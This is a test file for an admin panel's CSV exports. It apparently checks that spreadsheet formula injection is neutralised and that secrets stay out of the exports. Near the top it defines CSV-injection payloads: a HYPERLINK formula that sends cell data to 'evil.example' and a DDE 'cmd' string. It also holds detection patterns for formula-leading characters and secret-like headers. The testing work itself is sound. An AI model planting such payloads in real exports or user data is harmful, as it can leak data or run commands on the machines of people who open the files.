import { test } from '@japa/runner'
import { randomUUID } from 'node:crypto'
import { readFile } from 'node:fs/promises'
import { DateTime } from 'luxon'
import { parse } from 'csv-parse/sync'
import type { Page } from 'playwright-core'
import TimeLog from '#models/time_log'
import WebhookDelivery from '#models/webhook_delivery'
import WebhookEndpoint from '#models/webhook_endpoint'
import WeekSubmission from '#models/week_submission'
import { newWebhookSecret } from '#services/webhooks/signature'
import { createUser } from '#tests/support/accounts'
import { bookable, daysAgo } from '#tests/support/bookable'
import { resetAppState } from '#tests/support/database'
import { closePages } from './support/browser.js'
import { bodyRows, inPanel } from './support/admin.js'

/** A name and comments a spreadsheet would run as formulas, written raw. */
const formulaName = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
const formulaComments = ['=1+1', '@SUM(1+1)', "-2+3+cmd|' /C calc'!A0", '\tTabbed']

/** What a cell may not start with, unless the apostrophe before it makes it text. */
const formulaStart = /^[=+\-@\t\r]/
const secretHeader = /secret|password|token|hash|geheim|wachtwoord/i

/** A name, comments and a webhook in every admin list that has an Export button. */
async function hostileRecords() {
  const user = await createUser({ name: formulaName })
  const booking = await bookable([user], { name: '+Launch' })
  booking.client.name = '@Acme'
  await booking.client.save()
  for (const [hour, comments] of formulaComments.entries()) {
    await TimeLog.create({
      userId: user.id,
      projectId: booking.project.id,
      taskId: booking.task.id,
      date: daysAgo(1),
      startTime: `0${hour + 1}:00:00`,
      stopTime: `0${hour + 1}:30:00`,
      comments,
    })
  }
  const monday = DateTime.now().startOf('week').minus({ weeks: 2 })
  await WeekSubmission.create({
    userId: user.id,
    startsOn: monday.toISODate(),
    endsOn: monday.plus({ days: 6 }).toISODate(),
    status: 'submitted',
    comment: '=1+1',
    submittedAt: DateTime.now(),
  })
  const webhook = await WebhookEndpoint.create({
    url: 'https://hooks.example.test/hourbook',
    description: '-2+3+cmd',
    events: ['time_log.created'],
    secret: newWebhookSecret(),
    // Off, so that the app server's worker sends nothing while the test runs.
    active: false,
  })
  await WebhookDelivery.create({
    id: randomUUID(),
    endpointId: webhook.id,
    event: 'time_log.created',
    payload: '{}',
    status: 'failed',
    attempts: 1,
    lastError: '=1+1',
    createdAt: DateTime.now(),
  })
  return { webhook }
}

/** Opens the list, clicks Export and answers the downloaded file's bytes and rows. */
async function exported(page: Page, list: string) {
  await page.goto(`/admin/${list}`)
  await bodyRows(page).first().waitFor()
  const download = page.waitForEvent('download')
  await page.getByRole('button', { name: /^(Export|Exporteer)$/ }).click()
  const bytes = await readFile((await (await download).path())!)
  const [header, ...rows] = parse(bytes, { bom: true }) as string[][]
  return { bytes, header, rows }
}

test.group('Admin panel: CSV exports', (group) => {
  group.each.setup(() => resetAppState())
  group.each.teardown(() => closePages())

  test('every list exports text a spreadsheet would run as a formula as text, no secrets', async ({
    assert,
  }) => {
    const { webhook } = await hostileRecords()
    const { page } = await inPanel()
    const lists = [
      'clients',
      'projects',
      'tasks',
      'connections',
      'time-logs',
      'week-submissions',
      'users',
      'webhooks',
      'webhook-deliveries',
    ]
    // Every list is checked before the test fails, so that a failure names all that is wrong.
    const problems: string[] = []
    for (const list of lists) {
      const { bytes, header, rows } = await exported(page, list)
      if (bytes.subarray(0, 3).toString('hex') !== 'efbbbf') problems.push(`${list}: no BOM`)
      if (rows.length === 0) problems.push(`${list}: no rows`)
      for (const column of header.filter((name) => secretHeader.test(name) || name === 'id')) {
        problems.push(`${list}: column ${column}`)
      }
      for (const cell of [...header, ...rows.flat()].filter((text) => formulaStart.test(text))) {
        problems.push(`${list}: formula ${JSON.stringify(cell)}`)
      }
      if (bytes.toString().includes(webhook.secret!)) problems.push(`${list}: the webhook's secret`)
    }
    assert.deepEqual(problems, [])
  })

  test('users and time logs: readable columns, names for ids, formulas kept as text', async ({
    assert,
  }) => {
    await hostileRecords()
    const { page } = await inPanel()

    const users = await exported(page, 'users')
    assert.deepEqual(users.header, [
      'Name',
      'Email',
      'Role',
      'Active',
      'Invited',
      'Available hours per week',
      'Billable rate',
      'Cost rate',
      'Email verified at',
    ])
    const hostileUser = users.rows.find(([name]) => name === `'${formulaName}`)
    assert.exists(hostileUser)
    assert.equal(hostileUser![2], 'User')
    assert.equal(hostileUser![3], 'Yes')

    const logs = await exported(page, 'time-logs')
    assert.deepEqual(logs.header, [
      'Date',
      'Start',
      'Stop',
      'User',
      'Project',
      'Task',
      'Comments',
      'Rate',
      'Amount',
      'Cost rate',
      'Cost',
      'Currency',
      'Billed',
    ])
    assert.sameMembers(
      logs.rows.map((row) => row[6]),
      formulaComments.map((comments) => `'${comments}`)
    )
    const [year, month, day] = daysAgo(1).split('-')
    for (const row of logs.rows) {
      // In the English administrator's formats: month first, 24-hour times without seconds.
      assert.equal(row[0], `${month}/${day}/${year}`)
      assert.match(row[1], /^0\d:00$/)
      assert.match(row[2], /^0\d:30$/)
      assert.equal(row[3], `'${formulaName}`)
      assert.equal(row[4], `'@Acme — +Launch`)
    }

    const webhooks = await exported(page, 'webhooks')
    assert.deepEqual(webhooks.header, ['URL', 'Description', 'Events', 'Active', 'Updated at'])
    assert.deepEqual(webhooks.rows[0].slice(0, 4), [
      'https://hooks.example.test/hourbook',
      "'-2+3+cmd",
      'Time log created',
      'No',
    ])
  })

  test('the headers and words are in the panel language', async ({ assert }) => {
    await hostileRecords()
    const { page } = await inPanel({}, 'nl')
    const users = await exported(page, 'users')
    assert.deepEqual(users.header.slice(0, 4), ['Naam', 'E-mail', 'Rol', 'Actief'])
    assert.equal(users.rows.find(([name]) => name === `'${formulaName}`)![3], 'Ja')
  })
})
